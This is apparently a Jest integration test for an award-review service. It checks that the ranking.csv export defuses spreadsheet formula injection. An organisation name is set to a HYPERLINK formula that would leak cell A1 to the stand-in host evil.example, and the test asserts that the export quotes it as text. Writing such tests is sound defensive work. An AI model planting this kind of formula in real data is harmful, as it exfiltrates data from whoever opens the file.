import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { openCycle, readyApplication, registerEnterprise } from '../support/award-fixtures';
import { assignmentsOf, intoExpertReview, reviewerPool, scoreSheet, waitForState } from '../support/review-fixtures';
import { waitFor } from '../support/throwaway-redis';
import { startTestApp, TestContext } from '../support/test-app';
import { binaryBody } from '../support/binary-body';

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")';

/** An organisation that names itself like a spreadsheet formula gets a text cell in ranking.csv. */
describe('CSV exports neutralise formula cells', () => {
  let ctx: TestContext;

  beforeAll(async () => {
    ctx = await startTestApp({ worker: true, env: { OUTBOX_POLL_INTERVAL_MS: '200', DEADLINE_SCHEDULE_INTERVAL_MS: '100' } });
  });
  afterAll(async () => {
    await ctx?.close();
  });

  it('ranking.csv shows an organisation named "=HYPERLINK(…)" as text', async () => {
    const admin = await ctx.adminToken();
    const enterprise = await registerEnterprise(ctx, FORMULA_NAME);
    const [expert] = await reviewerPool(ctx, 1);
    const cycle = await openCycle(ctx, { reviewersPerApplication: 1 });
    const applicationId = await readyApplication(ctx, enterprise, cycle.id);
    await intoExpertReview(ctx, enterprise, applicationId);
    const [assignment] = await waitFor(async () => {
      const rows = await assignmentsOf(ctx, applicationId);
      return rows.length === 1 ? rows : null;
    }, 30_000, 'the expert assignment');
    await ctx.http.post(`/reviews/assignments/${assignment.id}/scores`).set('Authorization', expert.token).send(scoreSheet('district-quality-award', 0.8)).expect(200);
    await waitForState(ctx, applicationId, 'shortlisting');

    const res = await ctx.http
      .get(`/cycles/${cycle.id}/ranking.csv`)
      .set('Authorization', admin)
      .buffer(true)
      .parse(binaryBody)
      .expect(200);
    const lines = (res.body as Buffer).subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines).toHaveLength(2);
    const quoted = `"'${FORMULA_NAME.replace(/"/g, '""')}"`;
    expect(lines[1]).toContain(`,${quoted},`);
    // No cell of the row starts a formula once its quotes are taken off.
    const cells = lines[1].match(/"(?:[^"]|"")*"/g)!.map((cell) => cell.slice(1, -1).replace(/""/g, '"'));
    expect(cells).toHaveLength(9);
    for (const cell of cells) expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell)).toBe(false);
  });
});
